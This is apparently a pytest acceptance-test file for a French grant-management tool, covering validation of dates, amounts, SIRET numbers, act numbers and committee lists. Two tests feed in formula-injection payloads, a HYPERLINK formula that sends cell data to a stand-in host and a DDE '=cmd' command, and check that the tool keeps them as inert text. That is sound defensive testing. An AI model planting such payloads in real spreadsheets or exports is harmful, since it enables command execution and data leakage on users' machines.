"""Hostile values in the decision columns and in the dossiers (issue 22, points 5, 12 and 15): every one named
with its dossier and column, never a traceback, never a date or an amount no one could have meant, and
received text kept as text in every file the tool writes for people to open."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from batch.cli import main
from tests.acceptance.documents.conftest import EXAMPLES, office_decisions
from tests.acceptance.documents.test_scdl import validate
from tests.acceptance.documents.test_workbook_source import decided_workbook
from xlplugin.documents import DocumentSettings, write_scdl_csv
from xlplugin.documents.record import DecisionRecord
from xlplugin.rules import Allocation, Reglement
from xlplugin.workbook import layout as L

DEMO = EXAMPLES.parent / "parametres-documents-demo.json"
RECEIVED = EXAMPLES.parent / "recus"


def documents(workbook: Path, output: Path, *extra: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(
        main,
        [
            "documents",
            "--workbook",
            str(workbook),
            "--sortie",
            str(output),
            "--sans-pdf",
            "--parametres",
            str(DEMO),
            *extra,
        ],
    )
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


def type_cells(workbook: Path, number: int, cells: dict[str, object]) -> None:
    book = openpyxl.load_workbook(workbook)
    sheet = book[L.DOSSIERS]
    header = {cell.value: cell.column for cell in sheet[1]}
    row = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == number)
    for name, value in cells.items():
        sheet.cell(row, header[name], value)
    book.save(workbook)


def granted(allocation: Allocation) -> int:
    return next(g.number for g in allocation.grants if g.allocated > 0)


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        ({"Montant accordé": 1e300}, "Montant accordé : « 1e+300 » n'est pas un montant réaliste"),
        ({"Date de décision": datetime(1899, 12, 31)}, "Date de décision : « 31/12/1899 » n'est pas une date possible"),
        ({"Date de décision": datetime(9999, 12, 31)}, "Date de décision : « 31/12/9999 » n'est pas une date possible"),
        ({"Date de l'avance": datetime(1899, 12, 31), "Avance": 100}, "Date de l'avance : « 31/12/1899 »"),
        # « 12.000 » was read 12 € (twelve thousand to a French eye): found by fuzzing the documents' content
        ({"Montant accordé": "12.000"}, "Montant accordé : « 12.000 » : le point sépare-t-il les milliers"),
        ({"Avance": "4.600"}, "Avance : « 4.600 » : le point sépare-t-il les milliers"),
        # « Fait le 29 novembre 2031 », and a published payment period that ran backwards
        ({"Date de décision": datetime(2031, 11, 29)}, "Date de décision : le 29/11/2031, après le "),
        # « prévoit de le démarrer le 1er décembre 2021 et de l'achever le 30 novembre 2021 »
        (
            {"Démarrage": datetime(2021, 12, 1), "Fin de mise en œuvre": datetime(2021, 11, 30)},
            "dates du projet : fin le 30/11/2021, avant le démarrage le 01/12/2021",
        ),
    ],
)
def test_an_impossible_amount_or_date_is_named_and_the_others_get_their_documents(
    allocation: Allocation, tmp_path: Path, cells: dict[str, object], expected: str
) -> None:
    decisions = list(office_decisions(allocation).values())
    chosen = [d for d in decisions if d.decision == "accordée"][:2]
    workbook = decided_workbook(tmp_path, chosen)
    bad, good = chosen[0].number, chosen[1].number
    type_cells(workbook, bad, cells)
    code, out, err = documents(workbook, tmp_path / "sortie")
    assert code == 1 and "Traceback" not in out + err
    assert f"Dossier {bad}, {expected}" in err
    written = {p.name for p in (tmp_path / "sortie").iterdir()}
    assert f"{good}-arrete-attributif.docx" in written
    assert not any(name.startswith(str(bad)) for name in written)


def test_a_grant_whose_allocation_moved_since_the_committee_gets_no_act(allocation: Allocation, tmp_path: Path) -> None:
    """Found by fuzzing the documents' content: a dérogation ticked after the committee, the allocation not run
    again, gave another dossier an arrêté of 2 355 € (« reliquat ») where « Alloué » and the committee's list
    said 3 120 €, with « Vu l'avis du comité » — an amount the committee never saw. Those acts are refused."""
    from xlplugin.rules import default_reglement
    from xlplugin.workbook.reading import read_tracking

    decisions = list(office_decisions(allocation).values())
    chosen = [d for d in decisions if d.decision == "accordée"]
    workbook = decided_workbook(tmp_path, chosen)
    assert not read_tracking(workbook, default_reglement()).stale
    book = openpyxl.load_workbook(workbook)
    sheet = book[L.DOSSIERS]
    header = {cell.value: cell.column for cell in sheet[1]}
    for row in range(2, sheet.max_row + 1):  # every dossier asks for the prefect's derogation: shares move
        sheet.cell(row, header["Dérogation L1111-10"], "Oui")
    book.save(workbook)
    stale = read_tracking(workbook, default_reglement()).stale
    moved = [d.number for d in chosen if d.number in stale]
    kept = [d.number for d in chosen if d.number not in stale]
    assert moved and kept
    code, _out, err = documents(workbook, tmp_path / "sortie")
    assert code == 1
    written = {p.name.split("-")[0] for p in (tmp_path / "sortie").iterdir() if p.suffix == ".docx"}
    for number in moved:
        assert f"Dossier {number}, Alloué : la colonne dit" in err and "le comité n'a pas vu" in err
        assert str(number) not in written
    assert {str(n) for n in kept} <= written


def test_a_refusal_on_a_row_whose_allocation_moved_gets_its_letter_and_a_note(
    allocation: Allocation, tmp_path: Path
) -> None:
    """A refusal's letter states the rules' motifs of the dossier as it stands, so it is written; but the committee
    may have seen another rank or amount in « Alloué », and nothing said so (the note on the stale column was
    dropped, kept only for the grants it refuses)."""
    decisions = list(office_decisions(allocation).values())
    refused = next(d for d in decisions if d.decision == "refusée")
    workbook = decided_workbook(tmp_path, [refused])
    type_cells(workbook, refused.number, {"Alloué": 1000})  # what the committee saw, before a note changed
    code, _out, err = documents(workbook, tmp_path / "sortie")
    assert code == 0, err
    assert f"dossier(s) {refused.number} : la colonne « Alloué » n'est plus à jour" in err
    assert "peut-être pas ce que le comité a vu" in err
    assert any(p.name.startswith(f"{refused.number}-") for p in (tmp_path / "sortie").iterdir())


def test_two_acts_never_bear_the_same_number(allocation: Allocation, tmp_path: Path) -> None:
    # Found by fuzzing the documents' content: a number copied down the column gave two arrêtés one number, and
    # two rows of the published data one « referenceDecision ».
    decisions = list(office_decisions(allocation).values())
    chosen = [d for d in decisions if d.decision == "accordée"][:3]
    refused = next(d for d in decisions if d.decision == "refusée")
    workbook = decided_workbook(tmp_path, [*chosen, refused])
    first, second, third = (d.number for d in chosen)
    type_cells(workbook, first, {"N° d'arrêté": "01-2021-SUBV-101"})
    type_cells(workbook, second, {"N° d'arrêté": " 01-2021-subv-101"})
    type_cells(workbook, refused.number, {"N° d'arrêté": "01-2021-SUBV-101"})  # a letter carries no number
    code, _out, err = documents(workbook, tmp_path / "sortie")
    assert code == 1
    assert f"Dossier {first}, N° d'arrêté : « 01-2021-SUBV-101 » est aussi celui du dossier {second} :" in err
    assert f"Dossier {second}, N° d'arrêté : « 01-2021-subv-101 » est aussi celui du dossier {first} :" in err
    written = {p.name.split("-")[0] for p in (tmp_path / "sortie").iterdir() if p.suffix == ".docx"}
    assert {str(third), str(refused.number)} <= written and not {str(first), str(second)} & written


def test_the_beneficiarys_siret_is_checked_and_given_as_fourteen_digits(allocation: Allocation, tmp_path: Path) -> None:
    # Found by fuzzing the documents' content: a wrong « Code INSEE ou SIREN » gave the act another commune's
    # name over this one's SIRET; a SIRET with a bad key, or typed with spaces, went into the act and the data.
    decisions = list(office_decisions(allocation).values())
    chosen = [d for d in decisions if d.decision == "accordée"]
    workbook = decided_workbook(tmp_path, chosen)
    sheet = openpyxl.load_workbook(workbook)[L.DOSSIERS]
    header = {cell.value: cell.column - 1 for cell in sheet[1]}
    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    communes = [d.number for d in chosen if rows[d.number][header["Type de porteur"]] == "Commune"]
    spaced, wrong_key, wrong_code, good = communes[:4]
    siret = str(rows[spaced][header["SIRET"]])
    code = str(rows[wrong_code][header["Code INSEE ou SIREN"]])
    other = "01004" if code != "01004" else "01005"
    type_cells(workbook, spaced, {"SIRET": f"{siret[:3]} {siret[3:6]} {siret[6:9]} {siret[9:]}"})
    type_cells(workbook, wrong_key, {"SIRET": str(rows[wrong_key][header["SIRET"]])[:13] + "9"})
    type_cells(workbook, wrong_code, {"Code INSEE ou SIREN": other})
    code_, _out, err = documents(workbook, tmp_path / "sortie")
    assert code_ == 1
    assert f"Dossier {wrong_key}, SIRET : SIRET « " in err and "la clé de contrôle ne correspond pas" in err
    assert f"Dossier {wrong_code}, Code INSEE ou SIREN : le code INSEE " in err and f"({other}) n'est pas" in err
    written = {p.name.split("-")[0]: p for p in (tmp_path / "sortie").iterdir() if p.suffix == ".docx"}
    assert not {str(wrong_key), str(wrong_code)} & set(written) and {str(spaced), str(good)} <= set(written)
    with zipfile.ZipFile(written[str(spaced)]) as act:
        text = act.read("word/document.xml").decode("utf-8")
    assert siret in text and siret[:3] + " " not in text


def test_an_act_says_the_office_retained_a_population_only_when_it_changed_it(
    allocation: Allocation, tmp_path: Path
) -> None:
    # Found by fuzzing the documents' content: a joint project read from the workbook (its partners carry no
    # code) got « population 5 568 hab., retenue par le service instructeur », which no agent had touched.
    decisions = office_decisions(allocation)
    joint = next(n for n in (21000128, 21000129) if decisions[n].decision == "accordée")
    alone = next(n for n, d in sorted(decisions.items()) if d.decision == "accordée" and n not in (21000128, 21000129))
    workbook = decided_workbook(tmp_path, list(decisions.values()))
    sheet = openpyxl.load_workbook(workbook)[L.DOSSIERS]
    header = {cell.value: cell.column - 1 for cell in sheet[1]}
    population = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == alone)[header["Population"]]
    type_cells(workbook, alone, {"Population": population + 1})  # the office's own figure for this one
    documents(workbook, tmp_path / "sortie")

    def act(number: int) -> str:
        with zipfile.ZipFile(tmp_path / "sortie" / f"{number}-arrete-attributif.docx") as docx:
            return docx.read("word/document.xml").decode("utf-8")

    assert "selon le tableau de suivi de l'instruction" in act(joint)
    assert "retenue par le service instructeur" not in act(joint)
    assert "retenue par le service instructeur" in act(alone)


def test_a_refusal_letter_is_not_held_up_by_what_it_does_not_cite(allocation: Allocation, tmp_path: Path) -> None:
    # Found by reviewing the checks of the acts: the letter of refusal cites neither the SIRET nor the project's
    # dates; a SIRET with a bad key or an end before the start held it up (and its decision on the platform).
    refused = [d for d in office_decisions(allocation).values() if d.decision == "refusée"][:2]
    workbook = decided_workbook(tmp_path, refused)
    bad_key, backwards = (d.number for d in refused)
    type_cells(workbook, bad_key, {"SIRET": "21010005300012"})
    dates = {"Démarrage": datetime(2021, 12, 1), "Fin de mise en œuvre": datetime(2021, 11, 30)}
    type_cells(workbook, backwards, dates)
    code, out, err = documents(workbook, tmp_path / "sortie")
    assert code == 0, out + err
    written = {p.name for p in (tmp_path / "sortie").iterdir()}
    assert {f"{bad_key}-lettre-refus.docx", f"{backwards}-lettre-refus.docx"} <= written


def test_a_dossier_classee_sans_suite_is_said_so_never_asked_for_a_decision(
    allocation: Allocation, tmp_path: Path
) -> None:
    number = granted(allocation)
    workbook = decided_workbook(tmp_path, [])
    type_cells(workbook, number, {"Décision": "Classée sans suite", "Date de décision": datetime(2021, 11, 29)})
    code, out, err = documents(workbook, tmp_path / "sortie", "--dossier", str(number))
    assert code == 1
    assert "remplissez" not in out + err
    assert f"dossier(s) {number}" in out and "classés sans suite" in err


HYPERLINK = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")'
DDE = "=cmd|' /C calc'!A0"


def hostile_dossier(folder: Path) -> Path:
    """An example dossier whose porteur and project title are formulas, as an applicant can type them."""
    document = json.loads((EXAMPLES / "dossier-21000101.json").read_text(encoding="utf-8"))
    document["porteur"]["nom"] = HYPERLINK
    document["projet"]["intitule"] = DDE
    path = folder / "dossier-21000101.json"
    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    return path


def test_the_committee_list_keeps_an_applicants_formula_as_text(tmp_path: Path) -> None:
    files = [str(hostile_dossier(tmp_path))] + [
        str(p) for p in sorted(EXAMPLES.glob("*.json")) if p.name != "dossier-21000101.json"
    ]
    result = CliRunner().invoke(main, ["comite", *files, "--sortie", str(tmp_path / "comite"), "--sans-pdf"])
    assert result.exit_code == 0, result.output
    written = tmp_path / "comite" / "etat-recapitulatif.xlsx"
    with zipfile.ZipFile(written) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula at all in the list: every figure is a value
    cells = {c.value: c for row in openpyxl.load_workbook(written).active.iter_rows() for c in row}
    for text in (HYPERLINK, DDE):
        assert text in cells and cells[text].data_type == "s" and cells[text].quotePrefix


def test_the_essential_data_keep_a_formula_as_text_and_still_validate(
    records: list[DecisionRecord], settings: DocumentSettings, reglement_ain: Reglement, tmp_path: Path
) -> None:
    record = next(r for r in records if r.granted)
    hostile = dataclasses.replace(record, beneficiary_name=HYPERLINK, order_number="=1+1")
    path = write_scdl_csv([hostile], settings, reglement_ain, tmp_path / "subventions.csv")
    row = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert row["nomBeneficiaire"] == "'" + HYPERLINK and row["referenceDecision"] == "'=1+1"
    assert validate(path) == []


def test_comite_reads_the_files_evaluate_and_allocate_read(tmp_path: Path) -> None:
    """A démarches-simplifiées page, a DS dossier and the project's dossiers: the list holds every dossier that
    ``guichet allocate`` shares the envelope between."""
    files = [RECEIVED, EXAMPLES]
    allocated = CliRunner().invoke(main, ["allocate", "--format", "json", *map(str, files)])
    assert allocated.exit_code == 0, allocated.output
    numbers = {d["numero"] for d in json.loads(allocated.stdout)["dossiers"]}
    result = CliRunner().invoke(main, ["comite", *map(str, files), "--sortie", str(tmp_path), "--sans-pdf"])
    assert result.exit_code == 0, result.output
    listed = openpyxl.load_workbook(tmp_path / "etat-recapitulatif.xlsx").active
    cells = {c for row in listed.iter_rows(values_only=True) for c in row}
    assert numbers <= cells and any(n < 20000000 for n in numbers)  # the DS examples (11000101…) are in


def test_a_refused_dossier_is_named_once_with_each_problem_once(tmp_path: Path) -> None:
    bad = tmp_path / "incomplet.json"
    bad.write_text('{"numero": 5}', encoding="utf-8")
    result = CliRunner().invoke(main, ["comite", str(bad), str(EXAMPLES), "--sortie", str(tmp_path), "--sans-pdf"])
    assert result.exit_code == 1 and "Traceback" not in result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == len(set(lines)), result.stderr
    assert "incomplet.json, dossier 5" in result.stderr and "« porteur »" in result.stderr
    assert (tmp_path / "etat-recapitulatif.xlsx").is_file()  # the other dossiers are listed


def test_a_former_committee_list_is_moved_aside_never_written_over(tmp_path: Path) -> None:
    # Noticed in a review: a second run wrote over the list a former one made (perhaps annotated, or printed
    # for the committee) without a word.
    files = [str(p) for p in sorted(EXAMPLES.glob("*.json"))]
    output = tmp_path / "comite"
    assert CliRunner().invoke(main, ["comite", *files, "--sortie", str(output), "--sans-pdf"]).exit_code == 0
    annotated = output / "etat-recapitulatif.xlsx"
    book = openpyxl.load_workbook(annotated)
    book.active["A3"] = "Vu en séance, avis favorable"
    book.save(annotated)
    before = annotated.read_bytes()

    result = CliRunner().invoke(main, ["comite", *files, "--sortie", str(output), "--sans-pdf"])

    assert result.exit_code == 0, result.output
    (aside,) = (output / "remplaces").iterdir()
    assert f"État récapitulatif précédent rangé dans {aside} (rien n'est effacé)" in result.output
    assert (aside / "etat-recapitulatif.xlsx").read_bytes() == before
    assert openpyxl.load_workbook(annotated).active["A3"].value != "Vu en séance, avis favorable"
